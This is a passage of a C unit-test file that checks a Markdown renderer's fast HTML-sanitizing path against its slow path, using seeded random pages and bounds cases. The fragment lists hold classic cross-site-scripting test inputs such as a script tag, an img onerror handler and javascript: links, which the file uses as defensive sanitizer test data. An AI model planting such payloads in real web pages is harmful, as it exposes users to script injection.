                                        "| a |\n|---|\n| %s |\n", "> %s\n", "%s\n\n# After\n\n%s\n"};
    char buf[8192];
    for (size_t i = 0; i < sizeof(xss) / sizeof(xss[0]); i++)
        for (size_t w = 0; w < sizeof(wraps) / sizeof(wraps[0]); w++) {
            snprintf(buf, sizeof(buf), wraps[w], xss[i], xss[i]);
            differential(buf, strlen(buf));
        }

    /* found by a differential fuzzer: a permissive autolink crossing emphasis makes
     * md4c's events misnest (its HTML then has a <del> never closed) */
    static const char misnested[] = "#\0\0\0\0\0\0\0\0ng** *m* * *m* ~*stTong** ***b*stTong** *\0\0\0\0\0\0\0\0ng** *m* ~\0ng** *m* www.x.com~*stTong** ***b*stTong** ***both*maxem*ng** *m*iv*stTon**both*maxem*ng** *m*iv*stTong**";
    differential(misnested, sizeof(misnested) - 1);

    /* render_page takes the fast path: same page, same answer as the slow one */
    render_page_t p;
    page(bench_page, &p);
    size_t hl;
    char *html = render_markdown(bench_page, strlen(bench_page), &hl);
    char *slow = sanitize_html(html, hl, &opts, NULL);
    assert_string_equal(p.html, slow);
    assert_string_equal(p.title, "Inbox");
    free(html);
    free(slow);
    render_page_free(&p);
}

/* A seeded random mix of Markdown fragments and raw HTML snippets. */
static void test_fast_random(void **state)
{
    (void)state;
    static const char *const frags[] = {
        "# Head", "## Sub *em*", "text", "more text", "*em*", "**strong**", "~~del~~", "`code`", "``co`de``", "_u_",
        "[l](/a)", "[l](https://x.example/ \"t\")", "[l](javascript:x)", "![i](/i.png)", "![i *a*](http://x/i.png 'T')",
        "www.example.com", "https://a.example/b?c=d&e=f", "a@b.example", "<https://x.example>", "- item", "* star",
        "1. one", "3) three", "- [ ] task", "- [x] done", "  - nested", "    code", "```js", "```", "~~~", "> quote",
        "---", "***", "| a | b |", "|---|:-:|", "| 1 | 2 |", "|:--|--:|", "\\*esc\\*", "&amp;", "&copy;", "&#65;",
        "&bogus;", "&#x1F600;", "<", ">", "&", "\"", "'", "\xC3\xA9", "\xE2\x80\xA2", "  ", "\t", "\\", "===",
        "<div>", "</div>", "<b>", "</b>", "<p>", "</p>", "<form method=\"post\" action=\"/mail/x\">", "</form>",
        "<input name=\"q\">", "<button>Go</button>", "<details><summary>s</summary>", "</details>",
        "<script>alert(1)</script>", "<!-- c -->", "<!--", "-->", "<table>", "<tr><td>c</td></tr>", "</table>",
        "<span class=\"x\">s</span>", "<a href=\"/x\">a</a>", "<img src=x onerror=y>", "<br>", "</br>", "<hr>",
        "<textarea>", "</textarea>", "<select><option>o</option></select>", "<ul><li>x</li></ul>", "<em>", "</em>",
        "<div class=\"card\">card</div>", "<section>", "</section>", "<pre>", "</pre>", "x<y", "a > b", "[ref]",
        "[ref]: /target \"Title\"", "1. ", "- ", "#", "<", "<h2>raw</h2>", "<p>para</p>",
    };
    static const char *const seps[] = {"", " ", "\n", "\n\n", "\n\n", "\n", "\n  "};
    size_t nfr = sizeof(frags) / sizeof(frags[0]), ns = sizeof(seps) / sizeof(seps[0]);
    uint64_t seed = 0x5eed1234abcdULL;
    fig_buf_t b = FIG_BUF_INIT;
    int taken = 0, pages = 4000;
    for (int i = 0; i < pages; i++) {
        fig_buf_reset(&b);
        seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
        int n = 1 + (int)((seed >> 33) % 16);
        for (int k = 0; k < n; k++) {
            seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
            fig_buf_append_str(&b, frags[(seed >> 33) % nfr]);
            fig_buf_append_str(&b, seps[(seed >> 20) % ns]);
        }
        taken += differential(b.data, b.len);
    }
    fig_buf_free(&b);
    /* the generator must exercise the fast path, not only the fallback */
    if (taken < pages / 10)
        fail_msg("fast path taken for only %d of %d random pages", taken, pages);
    print_message("random: fast path taken for %d of %d pages; corpus total %d checked, %d fast\n", taken, pages,
                  diff_checked, diff_fast);
}

/* Seeded random pages made of whole blocks, half of them raw HTML: exercises the
 * islands (top-level raw HTML blocks) and their boundaries with Markdown. */
static void test_fast_blocks(void **state)
{
    (void)state;
    static const char *const md_blocks[] = {
        "# Heading *em*", "Para with **b** and [l](/x \"t\") and `c`.", "- a\n- b\n  - c", "1. x\n2. y",
        "5. five\n6. six", "- [ ] t\n- [x] u", "> q *e*\n> > qq", "```sh\necho '<x>' && y\n```", "    indented <b>",
        "| h | i |\n|:-|-:|\n| 1 | [a](https://x.example/) |", "---", "Text  \nbreak\\\nagain", "![img](/a.png \"t\")",
        "www.example.com and a@b.example", "&copy; &#x263A; &amp;", "\x01 ctl \x0b \x0c \x7f \xc2\x80 \xef\xbf\xbe end",
        "[ref]\n\n[ref]: /dest 'T'", "Setext\n===", "~~~\nfence\n~~~", "*a **b *c* d** e*", "`` a`b ``",
        "- <b>inline in list</b>", "Para <span>inline</span>", "[x](<a b> \"q\")", "\\<div>escaped",
    };
    static const char *const html_blocks[] = {
        "<div class=\"card\">card</div>", "<form method=\"post\" action=\"/mail/a\">\n<input name=\"x\">\n</form>",
        "<form method=\"get\">", "</form>", "<div>", "</div>", "<details>\n<summary>S</summary>\nbody\n</details>",
        "<table>\n<tr><td>1</td></tr>\n</table>", "<table><tbody><tr><td>1</td></tr></tbody></table>",
        "<script>alert(1)</script>", "<style>p{}</style>", "<!-- comment -->", "<!--", "-->", "<div><b>x</div>",
        "<p>para</p>", "<p>open", "</p>", "<hr>", "<br>", "</br>", "<ul><li>a</li><li>b</li></ul>", "<ul><li>a<li>b</ul>",
        "<section><h2>T</h2><p>x &amp; y</p></section>", "<div class=\"x", "<textarea name=\"t\">", "</textarea>",
        "<pre>\n\ncode</pre>", "<div><a href=\"https://x.example/\">a</a><a href=\"javascript:x\">j</a></div>",
        "<div><img src=\"/a.png\" onerror=\"x\"><img src=\"http://x/a.png\"></div>", "<h1>Raw title</h1>",
        "<div><form method=\"post\"><input type=\"hidden\" name=\"_csrf\" value=\"x\"></form></div>",
        "<select><option>a</option></select>", "<fieldset><legend>L</legend><label for=\"a\">A</label></fieldset>",
        "<div><em><strong>x</strong></em></div>", "<div><em><strong>x</em></strong></div>", "<table><td>x</table>",
        "<iframe src=\"x\"></iframe>", "<noscript>n</noscript>", "<dialog>d</dialog>", "<div>&nbsp;&notit; &#0;</div>",
        "<div>\n\n</div>", "<custom-el>c</custom-el>", "<a href=\"/x\">", "</a>", "<b>", "</b>",
    };
    static const char *const seps[] = {"\n\n", "\n\n", "\n", "\n\n\n", "\n  \n"};
    uint64_t seed = 0xb10c5eedULL;
    fig_buf_t b = FIG_BUF_INIT;
    int taken = 0, pages = 3000;
    size_t nm = sizeof(md_blocks) / sizeof(md_blocks[0]), nh = sizeof(html_blocks) / sizeof(html_blocks[0]);
    for (int i = 0; i < pages; i++) {
        fig_buf_reset(&b);
        seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
        int n = 1 + (int)((seed >> 33) % 8);
        for (int k = 0; k < n; k++) {
            seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
            uint64_t r = seed >> 24;
            fig_buf_append_str(&b, r & 1 ? html_blocks[(r >> 1) % nh] : md_blocks[(r >> 1) % nm]);
            fig_buf_append_str(&b, seps[(r >> 20) % (sizeof(seps) / sizeof(seps[0]))]);
        }
        taken += differential(b.data, b.len);
    }
    fig_buf_free(&b);
    if (taken < pages / 10)
        fail_msg("fast path taken for only %d of %d block pages", taken, pages);
    print_message("blocks: fast path taken for %d of %d pages\n", taken, pages);
}

/* Bounds: deep nesting and large output decline or agree; a long plain page is fast. */
static void test_fast_bounds(void **state)
{
    (void)state;
    fig_buf_t b = FIG_BUF_INIT;
    for (int i = 0; i < 300; i++)
        fig_buf_append_str(&b, "> ");
    fig_buf_append_str(&b, "deep\n");
    differential(b.data, b.len);
    fig_buf_reset(&b);
    for (int i = 0; i < 150; i++)
        fig_buf_append_str(&b, "- ");
    fig_buf_append_str(&b, "deep list\n");
    differential(b.data, b.len);

    fig_buf_reset(&b);
    for (int i = 0; i < 1500; i++)
        fig_buf_appendf(&b, "Paragraph %d with *em* and [a link](/x/%d) & a < b > c.\n\n", i, i);
    assert_true(b.len > 64 * 1024);
    if (!differential(b.data, b.len))
        fail_msg("fast path declined a long plain page");

    /* an island with many top-level nodes (found by fuzzing: the check's stack overflowed) */
    fig_buf_reset(&b);
    fig_buf_append_str(&b, "<div></div>");
    for (int i = 0; i < 300; i++)
        fig_buf_append_str(&b, "<i>x</i> ");
    fig_buf_append_str(&b, "\n");
    if (!differential(b.data, b.len))
        fail_msg("fast path declined a wide island");

    /* a table of empty cells: md4c's output is ten times its input, past FAST_MAX_HTML */
    fig_buf_reset(&b);
    for (int i = 0; i < 100; i++)
        fig_buf_append_str(&b, "|h");
    fig_buf_append_str(&b, "|\n");
    for (int i = 0; i < 100; i++)
        fig_buf_append_str(&b, "|---");
    fig_buf_append_str(&b, "|\n");
    for (int i = 0; i < 300; i++) {
        for (int k = 0; k < 100; k++)
            fig_buf_append_str(&b, "|");
        fig_buf_append_str(&b, "\n");
    }
    assert_int_equal(differential(b.data, b.len), 0);
    fig_buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_markdown), cmocka_unit_test(test_page_pipeline), cmocka_unit_test(test_title),
        cmocka_unit_test(test_page_errors), cmocka_unit_test(test_layout),   cmocka_unit_test(test_error_page), cmocka_unit_test(test_block_cut),
        cmocka_unit_test(test_fast_corpus), cmocka_unit_test(test_fast_random),
        cmocka_unit_test(test_fast_blocks), cmocka_unit_test(test_fast_bounds),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
